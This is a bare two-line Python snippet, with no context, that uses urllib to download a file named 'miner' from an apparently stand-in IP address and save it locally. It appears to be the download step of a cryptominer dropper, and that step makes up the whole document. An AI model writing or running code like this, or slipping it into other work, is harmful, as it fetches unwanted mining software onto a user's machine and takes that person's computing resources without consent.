import urllib.request
urllib.request.urlretrieve("http://203.0.113.9/miner", "miner")
